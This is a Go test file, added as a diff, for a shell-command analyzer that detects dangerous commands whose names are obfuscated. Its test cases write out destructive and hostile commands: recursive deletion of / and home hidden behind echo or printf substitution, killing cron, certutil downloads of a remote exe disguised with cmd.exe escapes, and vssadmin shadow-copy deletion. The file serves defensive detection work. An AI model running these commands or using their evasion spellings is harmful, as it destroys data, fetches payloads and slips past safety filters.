@@ -1,0 +1,101 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"mvdan.cc/sh/v3/syntax"
+)
+
+// TestAnalyzeSpelledNames: a command name spelled in a roundabout way is
+// judged as the name it spells.
+func TestAnalyzeSpelledNames(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		cmd  string
+		want string // an ID that must be present ("" = none at all)
+	}{
+		{"$(echo find) / | xargs rm -rf", IDRmRoot},
+		{"`echo rm` -rf /", IDRmRoot},
+		{"$(echo -n rm) -rf /", IDRmRoot},
+		{`$(printf '%s' rm) -rf ~`, IDRmHome},
+		{`$(printf 'rm\n') -rf ~`, IDRmHome},
+		{`"$(echo rm)" -rf /`, IDRmRoot},
+		{"$(echo kill) $(pgrep cron)", IDKillSystem},
+		{"kill $($(echo pgrep) cron)", IDKillSystem},
+		// Windows tool names with the escapes cmd.exe and sh drop
+		{`c\ertutil -urlcache -split -f https://x.io/a.exe a.exe`, IDDownloadLolbin},
+		{`c^ertutil -urlcache -split -f https://x.io/a.exe a.exe`, IDDownloadLolbin},
+		{`cmd /c c""ertutil.exe -urlcache -f https://x.io/a.exe a.exe`, IDDownloadLolbin},
+		{`v^ss^admin delete shadows /all /quiet`, IDDeleteBackups},
+		{`c^ertutil -hashfile a.exe`, ""},
+		// what echo would not print as written stays unknown, not safe
+		{"echo $(echo hello)", ""},
+		{"ls $(echo -e 'a\\tb')", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.cmd, func(t *testing.T) {
+			t.Parallel()
+			fs := Analyze(tt.cmd)
+			if tt.want == "" {
+				assert.Empty(t, fs)
+				return
+			}
+			assert.Contains(t, ids(fs), tt.want)
+		})
+	}
+}
+
+func TestLiteralEcho(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		sub  string
+		dq   bool
+		want string
+		ok   bool
+	}{
+		{"echo rm", false, "rm", true},
+		{"echo -n rm", false, "rm", true},
+		{"printf rm", false, "rm", true},
+		{`printf '%s\n' rm`, false, "rm", true},
+		{"echo rm -rf", false, "", false}, // split by the shell: not one name
+		{"echo rm -rf", true, "rm -rf", true},
+		{"echo -e 'r\\x6d'", false, "", false},
+		{"printf '%b' 'r\\x6d'", false, "", false},
+		{"echo $x", false, "", false},
+		{"echo rm >/dev/null", false, "", false},
+		{"echo a; echo b", false, "", false},
+		{"cat f", false, "", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.sub, func(t *testing.T) {
+			t.Parallel()
+			f, err := syntax.NewParser().Parse(strings.NewReader(tt.sub), "")
+			require.NoError(t, err)
+			got, ok := literalEcho(f.Stmts, tt.dq)
+			assert.Equal(t, tt.ok, ok)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestWinPlainNames(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ in, want string }{
+		{`c^ertutil -f x`, `certutil -f x`},
+		{`a & c""ertutil.exe x`, `a & certutil.exe x`},
+		{`type c:\windows\system32\drivers\etc\hosts`, ""}, // paths stay as they are
+		{`echo ^hello`, ""},
+		{`certutil -f x`, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.in, func(t *testing.T) {
+			t.Parallel()
+			got, ok := winPlainNames(tt.in)
+			assert.Equal(t, tt.want != "", ok)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
